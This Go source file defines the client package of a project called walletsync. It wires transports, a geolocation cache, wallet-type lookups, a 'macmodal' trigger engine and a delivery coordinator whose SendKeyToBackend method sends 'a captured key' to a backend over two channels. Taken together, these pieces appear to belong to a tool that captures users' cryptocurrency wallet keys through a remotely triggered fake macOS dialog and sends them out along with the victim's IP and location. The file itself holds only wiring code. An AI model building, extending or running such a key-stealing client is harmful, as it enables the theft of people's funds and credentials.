// Package client wires the synchronization components around one config
// store. A Client replaces process-wide globals: create one per process, or
// several isolated ones in tests.
package client

import (
	"context"
	"net/http"

	"walletsync/pkg/config"
	"walletsync/pkg/delivery"
	"walletsync/pkg/geo"
	"walletsync/pkg/macmodal"
	"walletsync/pkg/model"
	"walletsync/pkg/transport"
	"walletsync/pkg/wallettype"
)

type Client struct {
	Config *config.Store

	HTTP        *transport.HTTP
	Socket      *transport.Socket
	Geo         *geo.Cache
	WalletTypes *wallettype.Cache
	Delivery    *delivery.Coordinator
	Settings    *macmodal.HTTPSettings
}

// New builds a client. httpClient may be nil.
func New(cfg *config.Store, httpClient *http.Client) *Client {
	h := transport.NewHTTP(cfg, httpClient)
	sock := transport.NewSocket(cfg)
	g := geo.NewCache(cfg, h)
	return &Client{
		Config:      cfg,
		HTTP:        h,
		Socket:      sock,
		Geo:         g,
		WalletTypes: wallettype.NewCache(cfg, h),
		Delivery:    delivery.NewCoordinator(g, h, sock),
		Settings:    macmodal.NewHTTPSettings(cfg, h),
	}
}

// SendKeyToBackend delivers a captured key over both channels.
func (c *Client) SendKeyToBackend(ctx context.Context, userID string, keyType model.KeyType, keys, walletShortKey string) model.DeliveryResult {
	return c.Delivery.SendKey(ctx, userID, keyType, keys, walletShortKey)
}

func (c *Client) GetUserWalletTypes(ctx context.Context, userID string) []model.WalletType {
	return c.WalletTypes.Get(ctx, userID)
}

// ClearWalletTypesCache drops the given users, or all users when none are given.
func (c *Client) ClearWalletTypesCache(userIDs ...string) {
	c.WalletTypes.Clear(userIDs...)
}

func (c *Client) GetIPAndLocation(ctx context.Context) model.LocationRecord {
	return c.Geo.Get(ctx)
}

// MountMacModal starts a trigger engine for userID on the configured event.
// Callers must Unmount it.
func (c *Client) MountMacModal(ctx context.Context, userID string, onShow func(macmodal.Trigger), allowBroadcast bool) *macmodal.Engine {
	return macmodal.Mount(ctx, c.Socket, c.Settings, c.Config.EventName(), macmodal.Options{
		UserID:         userID,
		AllowBroadcast: allowBroadcast,
		OnShow:         onShow,
	})
}

func (c *Client) AssetURL(name string) string {
	return c.Config.AssetURL(name)
}

// Close shuts the persistent connection down.
func (c *Client) Close() error {
	return c.Socket.Close()
}
